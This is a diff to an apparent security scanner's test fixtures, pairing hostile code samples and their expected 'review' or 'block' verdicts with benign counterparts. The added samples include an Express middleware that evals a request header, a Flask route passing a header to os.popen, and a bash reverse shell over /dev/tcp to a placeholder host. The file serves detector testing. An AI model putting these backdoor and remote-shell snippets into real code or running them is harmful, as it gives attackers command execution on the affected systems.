@@ -21,10 +21,24 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "a row of a database": py(_ROWS + "exec(rows.fetchone()[0])\n", "review", line=4),
         "a document of a database": js(_FOUND + "eval(found.code); };\n", "review", line=5),
         "an entry of a cache": py("import redis\nexec(redis.Redis('a.invalid').get('a'))\n", "review"),
+        "what a visitor sends, in a function that sees every request": js(
+            "const app = require('express')();\napp.use((request, reply, next) => {\n"
+            "  if (request.headers['x-a']) eval(request.headers['x-a']);\n  next();\n});\n",
+            "review",
+            line=3,
+        ),
         "a module compiles by its prototype": js(
             "const M = require('module');\nfetch('https://a.invalid').then((r) => r.text()).then((t) =>\n"
             "  M.prototype._compile.call(new M('a'), t, 'a'));\n",
             line=3,
+        ),
+    },
+    "remote_command": {
+        "a header that a visitor sends": py(
+            "import os\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.post('/a')\ndef a():\n"
+            "    return os.popen(request.headers.get('X-A')).read()\n",
+            "review",
+            line=6,
         ),
     },
     "fetch_and_run": {
@@ -116,6 +130,9 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         ),
     },
     "remote_control": {
+        "a shell reads from a connection that was kept": Sample(
+            {"a.sh": "exec 3<>/dev/tcp/a.invalid/80\necho a >&3\nbash <&3\n"}, "block", ("a.sh", 3)
+        ),
         "a container that steers all others": Sample(
             {"compose.yml": "services:\n  a:\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n"},
             "review",
@@ -139,6 +156,12 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
     "remote_code": {
         "a row of a database is printed": py(_ROWS + "print(rows.fetchone()[0])\n").files,
         "a document of a database is parsed": js(_FOUND + "console.log(JSON.parse(found.text)); };\n").files,
+    },
+    "remote_command": {
+        "what a visitor sends is one word of a command": py(
+            "import subprocess\nfrom flask import request\ndef a():\n"
+            "    subprocess.run(['convert', request.args['a']])\n"
+        ).files,
     },
     "remote_object": {
         "an entry of a cache holds what was put there": py(
